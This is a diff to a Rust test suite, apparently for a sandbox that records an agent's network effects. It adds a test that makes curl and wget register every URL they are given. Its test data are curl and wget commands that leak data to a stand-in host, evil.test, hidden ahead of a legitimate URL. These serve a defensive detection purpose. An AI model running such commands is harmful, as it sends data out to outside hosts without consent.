@@ -296,3 +296,39 @@ fn ambiguous_or_invalid_page_urls_are_rejected_by_validation() {
         );
     }
 }
+
+#[test]
+fn curl_and_wget_request_every_url_they_are_given() {
+    // Only the last URL used to be requested, so a leak in an earlier one was missed.
+    for cmd in [
+        "curl -s https://evil.test/c?k=v https://acme.test/x",
+        "curl -s --url https://evil.test/c?k=v https://acme.test/x",
+        "curl -s -o /app/out.txt https://evil.test/c?k=v https://acme.test/x",
+        "wget -q -O - https://evil.test/c?k=v https://acme.test/x",
+        "wget -q https://evil.test/c?k=v https://acme.test/x",
+    ] {
+        let mut w = net();
+        let r = w.call("shell.exec", &json!({ "command": cmd }));
+        let sent: Vec<(K, Option<&str>)> = r
+            .effects
+            .iter()
+            .filter(|e| matches!(e.kind, K::Request | K::Egress))
+            .map(|e| (e.kind, e.str("host")))
+            .collect();
+        assert_eq!(
+            sent,
+            [
+                (K::Egress, Some("evil.test")),
+                (K::Request, Some("acme.test"))
+            ],
+            "{cmd}"
+        );
+    }
+    let mut w = net();
+    let r = w.call(
+        "shell.exec",
+        &json!({"command": "curl -s https://acme.test/x https://docs.acme.test/guide"}),
+    );
+    assert!(r.ok);
+    assert_eq!(r.output, "acme pageguide");
+}
